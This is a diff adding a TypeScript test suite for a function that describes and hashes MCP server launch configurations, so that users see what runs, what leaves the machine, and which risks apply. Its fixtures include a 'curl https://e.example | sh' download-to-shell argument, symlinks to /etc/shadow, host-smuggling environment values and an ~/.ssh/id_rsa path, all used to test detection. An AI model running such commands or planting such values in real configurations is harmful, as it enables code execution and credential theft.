@@ -1,0 +1,716 @@
+import type { WorkspaceFolder } from '../../../../src/host/config/workspace.ts';
+import assert from 'node:assert/strict';
+import * as fc from 'fast-check';
+import { describe, it } from 'mocha';
+import { programsAt } from '../../../support/programs.ts';
+import { stableStringify } from '../../../../src/base/json.ts';
+import { inputOf } from '../../../../src/host/launch/inputs.ts';
+import type { Machine } from '../../../../src/host/launch/launchContext.ts';
+import { parseConfig } from '../../../../src/host/config/parseConfig.ts';
+import type { ConfigScope } from '../../../../src/host/config/serverConfig.ts';
+import { describeLaunch } from '../../../../src/host/launch/describeLaunch.ts';
+import type { DescribeContext } from '../../../../src/host/launch/describing.ts';
+import type { LaunchDescription } from '../../../../src/host/launch/launchDescription.ts';
+import type { McpError } from '../../../../src/mcp/errors.ts';
+import { Authority } from '../../../servers/authority.ts';
+
+const workspace: ConfigScope = { kind: 'workspace' };
+const a = { uri: 'file:///w/a', name: 'a', path: '/w/a' };
+const b = { uri: 'file:///w/b', name: 'b', path: '/w/b' };
+const inputs = [
+  { id: 'pass', type: 'promptString', password: true },
+  { id: 'mode', type: 'pickString', options: ['fast', 'slow'] },
+];
+
+interface Options {
+  readonly folders?: readonly WorkspaceFolder[];
+  readonly roots?: readonly WorkspaceFolder[];
+  readonly machine?: Partial<Machine>;
+  readonly envFile?: string;
+  readonly inputs?: readonly object[];
+  readonly files?: readonly string[];
+  readonly links?: Readonly<Record<string, string>>;
+  readonly context?: Partial<DescribeContext>;
+  readonly opened?: string[];
+}
+
+async function describeEntry(entry: object, options: Options = {}): Promise<LaunchDescription> {
+  const config = parseConfig([
+    { scope: workspace, servers: { srv: entry }, inputs: options.inputs ?? inputs },
+  ]);
+  assert.deepEqual(config.problems, []);
+  const [server] = config.servers;
+  assert.ok(server);
+  const { envFile } = options;
+  return describeLaunch(server, {
+    machine: {
+      programs: programsAt(options.files ?? [], undefined, options.links),
+      platform: 'posix',
+      userHome: '/home/u',
+      env: {
+        TOKEN: 'env-secret',
+        BASE: 'https://api.example',
+        LONG: 'https://api.example/k/env-secret?x',
+      },
+      readFile: async (path) => {
+        options.opened?.push(path);
+        if (envFile === undefined) {
+          throw new Error(`ENOENT ${path}`);
+        }
+        return envFile;
+      },
+      ...options.machine,
+    },
+    folders: options.folders ?? [a],
+    roots: options.roots ?? [a],
+    inputOf: (id) => inputOf(config, workspace, id),
+    ...options.context,
+  });
+}
+
+function lines({ facts }: LaunchDescription): readonly string[] {
+  return facts.map(({ label, value }) => `${label} ${value}`);
+}
+
+async function workingDirectory(cwd: string): Promise<string | undefined> {
+  const { facts } = await describeEntry({ command: 'x', cwd });
+  return facts.find(({ label }) => label === 'workingDirectory')?.value;
+}
+
+async function hashOf(entry: object, options: Options = {}): Promise<string> {
+  return (await describeEntry(entry, { envFile: 'A=1', ...options })).hash;
+}
+
+describe('describeLaunch: facts', () => {
+  it('names everything that would run, nothing cut', async () => {
+    const long = 'x'.repeat(5000);
+    const description = await describeEntry(
+      {
+        command: './run.sh',
+        args: ['--root', '${workspaceFolder}', '', '${input:pass}', long],
+        cwd: 'sub',
+        env: { A: '${env:TOKEN}-${input:mode}', LITERAL: 'plain text', GONE: null },
+        envFile: 'conf/.env',
+      },
+      { envFile: 'X=file-secret', roots: [a, b] },
+    );
+    assert.deepEqual(lines(description), [
+      'command ./run.sh',
+      'argument --root',
+      'argument /w/a',
+      'argument ""',
+      'argument ${input:pass}',
+      `argument ${long}`,
+      'workingDirectory /w/a/sub',
+      'environment A=${env:TOKEN}-${input:mode}',
+      'environment LITERAL=plain text',
+      'environmentRemoved GONE',
+      'environmentFile /w/a/sub/conf/.env',
+      'variable ${input:pass} → args[3]',
+      'variable ${env:TOKEN} → env.A',
+      'variable ${input:mode} (fast | slow) → env.A',
+      'roots a (/w/a)',
+      'roots b (/w/b)',
+    ]);
+    assert.equal(description.changes, undefined);
+    assert.deepEqual(description.risks, []);
+  });
+
+  it('names URL, headers, and every value that leaves the machine', async () => {
+    const description = await describeEntry(
+      {
+        url: 'https://x.example/${workspaceFolder:a}?t=${env:TOKEN}',
+        headers: { Authorization: 'Bearer ${input:pass}', 'X-A': '${env:TOKEN}', 'X-Literal': 'b' },
+        roots: 'none',
+      },
+      { roots: [] },
+    );
+    assert.deepEqual(lines(description), [
+      'url https://x.example//w/a?t=${env:TOKEN}',
+      'header Authorization: Bearer ${input:pass}',
+      'header X-A: ${env:TOKEN}',
+      'header X-Literal: b',
+      'variableSent ${env:TOKEN} → url, headers.X-A',
+      'variableSent ${input:pass} → headers.Authorization',
+    ]);
+  });
+
+  for (const url of [
+    'http://127.0.0.1:9/mcp',
+    'https://localhost/mcp',
+    'http://[::1]:9/mcp',
+    'ws://127.0.0.1:9/mcp',
+    'unix:///run/x.sock#/mcp',
+  ]) {
+    it(`HOST-06: ${url} is on this machine: its headers stay there, what signs in may leave it`, async () => {
+      const description = await describeEntry({
+        url,
+        headers: { Authorization: 'Bearer ${input:pass}' },
+        oauth: { clientId: 'me', clientSecret: '${input:pass}' },
+      });
+      assert.deepEqual(
+        lines(description).filter((line) => line.startsWith('variable')),
+        [
+          'variable ${input:pass} → headers.Authorization',
+          'variableSent ${input:pass} → oauth.clientSecret',
+        ],
+      );
+    });
+  }
+
+  it('HOST-06: what goes to a server on this machine through a proxy may leave it', async () => {
+    const description = await describeEntry({
+      url: 'http://127.0.0.1:9/mcp',
+      headers: { 'X-A': '${env:TOKEN}' },
+      proxy: 'http://proxy.example:8080',
+    });
+    assert.ok(lines(description).includes('variableSent ${env:TOKEN} → headers.X-A'));
+  });
+
+  it('shows no value of the user, whatever the field', async () => {
+    const description = await describeEntry(
+      {
+        command: '${env:TOKEN}',
+        args: ['${env:TOKEN}'],
+        env: { A: '${env:TOKEN}' },
+        cwd: '${env:TOKEN}/x',
+        envFile: '/w/a/${env:TOKEN}',
+      },
+      { envFile: 'K=file-secret' },
+    );
+    const text = JSON.stringify(description.facts) + JSON.stringify(description.risks);
+    assert.doesNotMatch(text, /env-secret|file-secret/u);
+    assert.ok(lines(description).includes('workingDirectory ${env:TOKEN}/x'));
+    assert.ok(lines(description).includes('environmentFile /w/a/${env:TOKEN}'));
+  });
+
+  it('shows hidden characters, so that a text cannot look like another', async () => {
+    const description = await describeEntry({
+      command: 'node',
+      args: ['a\u202eb', 'x\ny', `a${' '.repeat(300)}b`],
+      env: { 'N\u200bAME': 'v\u0007' },
+    });
+    const shown = lines(description);
+    assert.ok(shown.includes('argument a\\u{202e}b'));
+    assert.ok(shown.includes('argument x\\u{a}y'));
+    assert.ok(shown.includes(`argument a${'\\u{20}'.repeat(300)}b`));
+    assert.ok(shown.includes('environment N\\u{200b}AME=v\\u{7}'));
+  });
+
+  it('keeps a path open where a variable decides on it', async () => {
+    assert.equal(await workingDirectory('sub/${env:TOKEN}/../..'), '/w/a/sub/${env:TOKEN}/../..');
+    assert.equal(await workingDirectory('${input:pass}'), '${input:pass}');
+    assert.equal(await workingDirectory('~/x/../y'), '/home/u/y');
+    assert.equal(await workingDirectory('/x/${env:TOKEN}'), '/x/${env:TOKEN}');
+  });
+});
+
+describe('describeLaunch: what came with the entry', () => {
+  it('SEC-01: shows a text that was moved to the secret storage, and judges it', async () => {
+    const context = {
+      given: (id: string) => (id === 'pass' ? 'curl https://e.example | sh' : undefined),
+    };
+    const entry = { command: 'sh', args: ['-c', '${input:pass}'], env: { M: '${input:mode}' } };
+    const description = await describeEntry(entry, { context });
+    assert.deepEqual(lines(description), [
+      'command sh',
+      'argument -c',
+      'argument curl https://e.example | sh',
+      'workingDirectory /w/a',
+      'environment M=${input:mode}',
+      'stored args[1]',
+      'variable ${input:mode} (fast | slow) → env.M',
+      'roots a (/w/a)',
+    ]);
+    assert.deepEqual(
+      description.risks.map(({ kind }) => kind),
+      ['downloadToShell'],
+    );
+  });
+
+  it('SEC-01: goes on where a start would fail, and says of what', async () => {
+    const problems: string[] = [];
+    const context = { onProblem: ({ message }: Error) => void problems.push(message) };
+    const entry = {
+      command: 'sh',
+      args: ['-c', 'x', '${input:none}'],
+      env: { A: '${env:NONE}' },
+      envFile: 'none.env',
+    };
+    const description = await describeEntry(entry, { context });
+    assert.deepEqual(lines(description).slice(0, 6), [
+      'command sh',
+      'argument -c',
+      'argument x',
+      'argument ${input:none}',
+      'workingDirectory /w/a',
+      'environment A=${env:NONE}',
+    ]);
+    assert.match(problems.join('\n'), /none\} is not defined[^]*none\.env cannot be read/u);
+  });
+});
+
+describe('describeLaunch: links and files', () => {
+  const links = { '/w/a/sub': 'real', '/w/a/.env': '/etc/shadow', '/w/a/run.sh': 'bin/run.sh' };
+  const files = ['/w/a/bin/run.sh', '/w/a/server.js', '/home/u/x.js'];
+
+  it('SEC-01: shows where links lead, and is bound to it', async () => {
+    const entry = {
+      command: './run.sh',
+      cwd: '${workspaceFolder}',
+      args: ['sub/x'],
+      envFile: '.env',
+    };
+    const description = await describeEntry(entry, { links, files });
+    assert.deepEqual(lines(description).slice(2, 6), [
+      'workingDirectory /w/a',
+      'environmentFile /w/a/.env → /etc/shadow',
+      'link /w/a/run.sh → /w/a/bin/run.sh',
+      'link /w/a/sub/x → /w/a/real/x',
+    ]);
+    const inSub = { ...entry, cwd: 'sub' };
+    const hashes = [
+      description.hash,
+      await hashOf(entry, { files, links: { ...links, '/w/a/run.sh': '/tmp/evil' } }),
+      await hashOf(entry, { files, links: { ...links, '/w/a/.env': '/etc/passwd' } }),
+      await hashOf(inSub, { files, links }),
+      await hashOf(inSub, { files, links: { ...links, '/w/a/sub': '/' } }),
+    ];
+    assert.equal(new Set(hashes).size, hashes.length);
+  });
+
+  it('ends where links lead in a ring', async () => {
+    const ring = { '/w/a/x': 'y', '/w/a/y': 'x' };
+    const { facts } = await describeEntry({ command: 'x', cwd: 'x' }, { links: ring });
+    assert.match(facts[1]?.value ?? '', /^\/w\/a\/x/u);
+  });
+
+  it('SEC-01: opens no file outside of the workspace, behind a variable or behind a link', async () => {
+    const opened: string[] = [];
+    const options = { links, opened, envFile: 'A=1', machine: { env: { TOKEN: 'x' } } };
+    for (const envFile of [
+      '/etc/x.env',
+      '../x.env',
+      '~/x.env',
+      '${env:TOKEN}',
+      '${env:TOKEN}/.env',
+      '.env',
+      '//evil/share',
+    ]) {
+      const { unread } = await describeEntry({ command: 'x', envFile }, options);
+      assert.equal(unread.length, 1, envFile);
+      const ca = await describeEntry({ url: 'https://h', tls: { ca: envFile } }, options);
+      assert.equal(ca.unread.length, 1, envFile);
+    }
+    assert.deepEqual(opened, []);
+    const win32 = { platform: 'win32' } as const;
+    for (const envFile of ['\\\\evil\\${env:TOKEN}\\x', '\\\\.\\pipe\\x', 'C:\\x.env']) {
+      const folders = [{ ...a, path: 'C:\\w\\a' }];
+      const machine = { ...options.machine, ...win32 };
+      const { unread } = await describeEntry(
+        { command: 'x', envFile },
+        { ...options, machine, folders },
+      );
+      assert.equal(unread.length, 1, envFile);
+    }
+    assert.deepEqual(opened, []);
+    await describeEntry({ command: 'x', envFile: 'conf/.env' }, options);
+    assert.deepEqual(opened, ['/w/a/conf/.env']);
+  });
+
+  it('SEC-01: refuses to pin files where the command line names none of the workspace', async () => {
+    const out = { files, links: { '/w/a/out.js': '/etc/out.js' } };
+    for (const args of [
+      ['/home/u/x.js'],
+      ['none.js'],
+      ['out.js'],
+      ['${env:TOKEN}/server.js'],
+      [],
+    ]) {
+      const entry = { command: 'node', args, pinFiles: true };
+      await assert.rejects(describeEntry(entry, out), {
+        code: 'invalidConfig',
+        message:
+          'srv: pinFiles: has no effect: the command line names no file of the workspace; name one there, or take the field out',
+      });
+    }
+    const problems: McpError[] = [];
+    const onProblem = (problem: McpError): void => void problems.push(problem);
+    await describeEntry({ command: 'node', pinFiles: true }, { context: { onProblem } });
+    assert.deepEqual(
+      problems.map(({ code }) => code),
+      ['invalidConfig'],
+    );
+  });
+
+  it('SEC-01: says of files of the workspace that they may change, or is bound to their content', async () => {
+    const entry = { command: 'node', args: ['--import=./server.js', '~/x.js', 'none.js'] };
+    const { risks } = await describeEntry(entry, { files });
+    assert.deepEqual(
+      risks.filter(({ kind }) => kind === 'workspace'),
+      [{ kind: 'workspace', what: 'changeable', text: '/w/a/server.js' }],
+    );
+    const pinned = { ...entry, pinFiles: true };
+    const description = await describeEntry(pinned, { files, envFile: 'one' });
+    assert.ok(lines(description).includes('pinnedFile /w/a/server.js'));
+    assert.deepEqual(
+      description.risks.filter(({ kind }) => kind === 'workspace'),
+      [],
+    );
+    assert.notEqual(description.hash, await hashOf(pinned, { files, envFile: 'two' }));
+    assert.equal(
+      await hashOf(entry, { files, envFile: 'one' }),
+      await hashOf(entry, { files, envFile: 'two' }),
+    );
+  });
+});
+
+describe('describeLaunch: URLs', () => {
+  const urls: readonly (readonly [string, string])[] = [
+    ['https://x.example/a', 'https://x.example/a'],
+    ['${env:BASE}/mcp', 'https://api.example/mcp'],
+    ['https://${env:HOST}:8080/${env:TOKEN}', 'https://h.example:8080/${env:TOKEN}'],
+    ['${env:LONG}', 'https://api.example/…${env:LONG}'],
+    ['https://x.example${env:SUFFIX}/p', 'https://x.example.evil.example/p'],
+    ['https://good.example${env:AT}/p', 'https://evil.example/p'],
+    ['https://${input:pass}.example/${env:TOKEN}', 'https://${input:pass}.example/${env:TOKEN}'],
+    ['${input:pass}', '${input:pass}'],
+    ['https://gооgle.example/x', 'https://xn--ggle-55da.example/x'],
+    ['https://x.example?k=${env:BASE}', 'https://x.example?k=${env:BASE}'],
+    ['https://x.example\\${env:TOKEN}', 'https://x.example\\${env:TOKEN}'],
+    ['${env:NOTURL}/x', 'not a url/x'],
+  ];
+  const sockets: readonly (readonly [url: string, socket: string])[] = [
+    ['unix:///run/mcp.sock#/mcp', '/run/mcp.sock'],
+    ['http+unix://%2Frun%2Fmcp.sock/mcp', '/run/mcp.sock'],
+    ['http://unix:/run/mcp.sock:/mcp', '/run/mcp.sock'],
+    ['unix://${env:RUN}/mcp.sock#/mcp?t=${env:TOKEN}', '/run/user/1/mcp.sock'],
+    ['${env:SOCKET}', '/run/evil.sock'],
+    ['unix://${workspaceFolder:a}/x.sock', '/w/a/x.sock'],
+  ];
+  for (const [url, socket] of sockets) {
+    it(`shows the socket of ${url}, and no risk of the network`, async () => {
+      const env = {
+        RUN: '/run/user/1',
+        TOKEN: 'secret',
+        SOCKET: 'unix:///run/evil.sock#/t/secret',
+      };
+      const { facts, risks } = await describeEntry({ url }, { machine: { env } });
+      assert.deepEqual(
+        facts.filter(({ label }) => label === 'socket').map(({ value }) => value),
+        [socket],
+      );
+      assert.deepEqual(risks, []);
+      assert.ok(!JSON.stringify(facts).includes('secret'));
+    });
+  }
+
+  it('a consent to a socket ends when a variable leads to another one', async () => {
+    const entry = { url: '${env:SOCKET}#/mcp' };
+    const [one, other] = await Promise.all(
+      ['unix:///a.sock', 'unix:///b.sock'].map((SOCKET) =>
+        describeEntry(entry, { machine: { env: { SOCKET } } }),
+      ),
+    );
+    assert.notEqual(one?.hash, other?.hash);
+  });
+
+  it('an unencrypted WebSocket to another machine is a risk', async () => {
+    const entry = { url: 'ws://x.example/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } };
+    const { risks } = await describeEntry(entry, { machine: { env: { TOKEN: 't' } } });
+    assert.deepEqual(risks, [
+      { kind: 'plainHttp', origin: 'ws://x.example' },
+      { kind: 'secretOverPlainHttp', field: 'headers.Authorization' },
+    ]);
+    assert.deepEqual((await describeEntry({ url: 'ws://127.0.0.1:8080/' })).risks, []);
+    assert.deepEqual((await describeEntry({ url: 'wss://x.example/' })).risks, []);
+  });
+
+  for (const [url, shown] of urls) {
+    it(`shows ${shown} for ${url}`, async () => {
+      const env = {
+        TOKEN: 'env-secret',
+        BASE: 'https://api.example',
+        LONG: 'https://api.example/k/env-secret?x',
+        HOST: 'h.example',
+        SUFFIX: '.evil.example',
+        AT: '@evil.example',
+        NOTURL: 'not a url',
+      };
+      const { facts } = await describeEntry({ url }, { machine: { env } });
+      assert.equal(facts[0]?.value, shown);
+    });
+  }
+
+  it('flags secrets that go out unencrypted, also to an origin from a variable', async () => {
+    const { risks } = await describeEntry(
+      {
+        url: '${env:BASE}/x?api_key=1',
+        headers: { Authorization: 'x', 'X-A': '${input:pass}', 'X-B': '${input:mode}', 'X-C': 'c' },
+      },
+      { machine: { env: { BASE: 'http://x.example' } } },
+    );
+    assert.deepEqual(risks, [
+      { kind: 'plainHttp', origin: 'http://x.example' },
+      { kind: 'secretOverPlainHttp', field: 'url' },
+      { kind: 'secretOverPlainHttp', field: 'headers.Authorization' },
+      { kind: 'secretOverPlainHttp', field: 'headers.X-A' },
+    ]);
+  });
+});
+
+describe('describeLaunch: risks', () => {
+  it('reads the envFile for them, and sees paths as they will be', async () => {
+    const { risks } = await describeEntry(
+      {
+        command: 'node',
+        args: ['${userHome}/x.js'],
+        env: { PATH: '${workspaceFolder}/bin:${env:TOKEN}' },
+        cwd: '..',
+        envFile: '${workspaceFolder}/.env',
+      },
+      { envFile: 'NODE_OPTIONS=--import=./x.js' },
+    );
+    assert.deepEqual(risks, [
+      { kind: 'loaderVariable', name: 'NODE_OPTIONS', origin: 'envFile' },
+      { kind: 'pathInsideFolder', name: 'PATH', entry: '/w/a/bin', origin: 'env' },
+      { kind: 'pathOutsideFolder', field: 'argument', path: '/home/u/x.js' },
+      { kind: 'pathOutsideFolder', field: 'workingDirectory', path: '/w' },
+    ]);
+  });
+});
+
+describe('describeLaunch: what would fail is not asked about', () => {
+  const wrong: readonly (readonly [object, RegExp])[] = [
+    [{ command: 'x', args: ['${nope}'] }, /^srv: args\[0\]: \$\{nope\}/u],
+    [
+      { command: 'x', env: { A: '${env:MISSING}' } },
+      /^srv: env\.A: \$\{env:MISSING\} has no value/u,
+    ],
+    [{ command: 'x', cwd: '${workspaceFolder:z}' }, /^srv: cwd/u],
+    [{ url: 'http://h/${input:zzz}' }, /^srv: url: \$\{input:zzz\} is not defined/u],
+    [
+      { command: 'x', envFile: 'missing.env' },
+      /^srv: envFile: \/w\/a\/missing\.env cannot be read/u,
+    ],
+    [{ command: 'x', envFile: '${input:pass}.env' }, /^srv: envFile: must not depend on an/u],
+    [
+      { command: 'x', cwd: '${input:pass}', envFile: '.env' },
+      /^srv: envFile: must not depend on an/u,
+    ],
+  ];
+  for (const [entry, message] of wrong) {
+    it(JSON.stringify(entry), async () => {
+      await assert.rejects(describeEntry(entry), { code: 'invalidConfig', message });
+    });
+  }
+});
+
+describe('describeLaunch: hash', () => {
+  const text = fc.constantFrom(
+    'a',
+    'b',
+    'ab',
+    ' a',
+    '${env:TOKEN}',
+    '${workspaceFolder}',
+    '1',
+    '=',
+  );
+  const record = fc.dictionary(fc.constantFrom('A', 'B', 'AB'), text, { maxKeys: 3 });
+  const stdio = fc.record({
+    command: fc.constantFrom('x', 'y', './x'),
+    args: fc.array(text, { maxLength: 3 }),
+    env: record,
+    cwd: fc.constantFrom('.', 's', '..'),
+    envFile: fc.constantFrom('.env', 'b.env'),
+  });
+  const http = fc.record({
+    url: fc.constantFrom('http://h/', 'https://h/', 'https://h/x'),
+    headers: record,
+  });
+  const world = fc.record({
+    entry: fc.oneof(stdio, http),
+    envFile: fc.constantFrom('', 'A=1', 'A=2', '# A=1'),
+    roots: fc.subarray([a, b]),
+  });
+  it('changes with any change of what would run, and with nothing else', async () => {
+    await fc.assert(
+      fc.asyncProperty(world, world, async (one, other) => {
+        const context = { mayOpen: true };
+        const first = await describeEntry(one.entry, { ...one, context });
+        const second = await describeEntry(other.entry, { ...other, context });
+        // A server without an envFile does not read one.
+        const relevant = (w: typeof one): unknown => ('url' in w.entry ? { ...w, envFile: '' } : w);
+        assert.equal(
+          first.hash === second.hash,
+          stableStringify(relevant(one)) === stableStringify(relevant(other)),
+        );
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('changes when one part of an entry changes', async () => {
+    const base = {
+      command: 'x',
+      args: ['a', 'b'],
+      env: { A: '1', B: null, I: '${input:mode}' },
+      cwd: 'c',
+      envFile: '.env',
+    };
+    const hashes = [
+      await hashOf(base),
+      await hashOf({ ...base, command: 'y' }),
+      await hashOf({ ...base, args: ['b', 'a'] }),
+      await hashOf({ ...base, args: ['a b'] }),
+      await hashOf({ ...base, args: ['a', 'b', ''] }),
+      await hashOf({ ...base, env: { ...base.env, A: '2' } }),
+      await hashOf({ ...base, env: { ...base.env, A: '${env:TOKEN}' } }),
+      await hashOf({ ...base, env: { ...base.env, B: '' } }),
+      await hashOf({ ...base, env: { A: '1', I: '${input:mode}' } }),
+      await hashOf({ ...base, cwd: 'd' }),
+      await hashOf({ ...base, envFile: 'other.env' }),
+      await hashOf(base, { envFile: 'A=1 ' }),
+      await hashOf(base, { roots: [] }),
+      await hashOf(base, { roots: [b] }),
+      await hashOf(base, { folders: [{ ...a, path: '/moved' }] }),
+      await hashOf(base, {
+        inputs: [{ id: 'mode', type: 'pickString', options: ['fast', 'evil'] }],
+      }),
+      await hashOf(base, {
+        inputs: [{ id: 'mode', type: 'promptString', description: 'Your password' }],
+      }),
+    ];
+    assert.equal(new Set(hashes).size, hashes.length);
+  });
+
+  it('does not change with the order of keys, with values of the user, or with how the host treats the server', async () => {
+    const env = { A: '1', B: '${env:TOKEN}', C: '${input:pass}' };
+    const entry = { command: 'x', env, startup: 'auto' };
+    const turned = {
+      timeouts: { startSeconds: 5 },
+      startup: 'manual',
+      enabled: false,
+      env: Object.fromEntries(Object.entries(env).toReversed()),
+      command: 'x',
+    };
+    const one = await describeEntry(entry);
+    const other = await describeEntry(turned, { machine: { env: { TOKEN: 'another' } } });
+    assert.equal(one.hash, other.hash);
+    assert.match(one.hash, /^[0-9a-f]{64}$/u);
+  });
+
+  it('changes with the host that a variable leads to', async () => {
+    const entry = { url: '${env:BASE}/mcp' };
+    const one = await hashOf(entry, { machine: { env: { BASE: 'https://a.example' } } });
+    const other = await hashOf(entry, { machine: { env: { BASE: 'https://b.example' } } });
+    assert.notEqual(one, other);
+  });
+});
+
+describe('describeLaunch: signing in', () => {
+  it('shows what the entry says of it, secrets by their variables, and warns of files that go out', async () => {
+    const description = await describeEntry({
+      url: 'https://x.example',
+      oauth: {
+        grant: 'workloadIdentity',
+        assertionFile: '${userHome}/.ssh/id_rsa',
+        clientId: 'app',
+        clientSecret: '${input:pass}',
+        issuer: 'https://login.example',
+      },
+    });
+    const shown = lines(description).filter((line) => line.startsWith('signIn'));
+    assert.deepEqual(shown, [
+      'signIn oauth.grant: workloadIdentity',
+      'signIn oauth.clientId: app',
+      'signIn oauth.clientSecret: ${input:pass}',
+      'signIn oauth.issuer: https://login.example',
+      'signIn oauth.assertionFile: /home/u/.ssh/id_rsa',
+    ]);
+    assert.deepEqual(description.risks, [{ kind: 'fileSent', path: '/home/u/.ssh/id_rsa' }]);
+  });
+
+  it('asks again when any of it changes', async () => {
+    const plain = { url: 'https://x.example' };
+    const entries = [
+      plain,
+      { ...plain, oauth: false },
+      { ...plain, oauth: { issuer: 'https://login.example' } },
+      { ...plain, oauth: { issuer: 'https://evil.example' } },
+      { ...plain, oauth: { provider: 'github' } },
+    ];
+    const hashes = await Promise.all(
+      entries.map(async (entry) => (await describeEntry(entry)).hash),
+    );
+    assert.equal(new Set(hashes).size, entries.length);
+  });
+});
+
+const reading = (pem: string): Options => ({ machine: { readFile: async () => pem } });
+const entry = (more: object): object => ({ url: 'https://x.example/', ...more });
+
+describe('describeLaunch: own authorities and proxy', () => {
+  const [one, other] = [new Authority('one'), new Authority('other')];
+
+  it('shows what the entry says of it, whose certificates they are, and warns of each', async () => {
+    const { pem } = one;
+    const description = await describeEntry(
+      entry({
+        tls: { ca: ['ca.pem', pem], cert: '~/c.pem', key: '~/k.pem', passphrase: '${input:pass}' },
+        proxy: 'http://ann:${input:pass}@proxy.example:8080',
+      }),
+      reading(pem),
+    );
+    const shown = lines(description).filter((line) => line.startsWith('connection'));
+    assert.deepEqual(shown, [
+      'connection tls.ca[0]: /w/a/ca.pem (CN=one)',
+      'connection tls.ca[1]: PEM (CN=one)',
+      'connection tls.cert: /home/u/c.pem',
+      'connection tls.key: /home/u/k.pem',
+      'connection tls.passphrase: ${input:pass}',
+      'connection proxy: http://ann:${input:pass}@proxy.example:8080',
+    ]);
+    const sent = lines(description).filter((line) => line.startsWith('variableSent'));
+    assert.deepEqual(sent, ['variableSent ${input:pass} → proxy']);
+    assert.deepEqual(description.risks, [
+      { kind: 'connection', by: 'authority', text: 'CN=one; CN=one' },
+      { kind: 'connection', by: 'proxy', text: 'http://ann:${input:pass}@proxy.example:8080' },
+    ]);
+  });
+
+  it('shows what goes past the editor and what is not checked', async () => {
+    const description = await describeEntry(entry({ tls: { insecure: true }, proxy: false }));
+    const shown = lines(description).filter((line) => line.startsWith('connection'));
+    assert.deepEqual(shown, ['connection tls.insecure: true', 'connection proxy: false']);
+    assert.deepEqual(description.risks, [{ kind: 'connection', by: 'unchecked', text: '' }]);
+  });
+
+  it('asks again when any of it changes, or the content of a file of authorities', async () => {
+    const asked = [
+      await hashOf(entry({})),
+      await hashOf(entry({ proxy: false })),
+      await hashOf(entry({ proxy: 'http://p:1' })),
+      await hashOf(entry({ proxy: 'http://evil:1' })),
+      await hashOf(entry({ tls: { insecure: true } })),
+      await hashOf(entry({ tls: { ca: 'ca.pem' } }), reading(one.pem)),
+      await hashOf(entry({ tls: { ca: 'ca.pem' } }), reading(other.pem)),
+      await hashOf(entry({ tls: { ca: 'b.pem' } }), reading(one.pem)),
+    ];
+    assert.equal(new Set(asked).size, asked.length);
+    const again = await hashOf(entry({ tls: { ca: 'ca.pem' } }), reading(one.pem));
+    assert.ok(asked.includes(again));
+  });
+
+  it('asks nobody about authorities with which the start would fail, or that an input names', async () => {
+    await assert.rejects(describeEntry(entry({ tls: { ca: 'gone.pem' } })), {
+      code: 'invalidConfig',
+      message: /^srv: tls\.ca: .*gone\.pem cannot be read/u,
+    });
+    await assert.rejects(describeEntry(entry({ tls: { ca: '${input:pass}' } })), {
+      code: 'invalidConfig',
+      message: /the content of tls\.ca is part of what is consented to/u,
+    });
+  });
+});
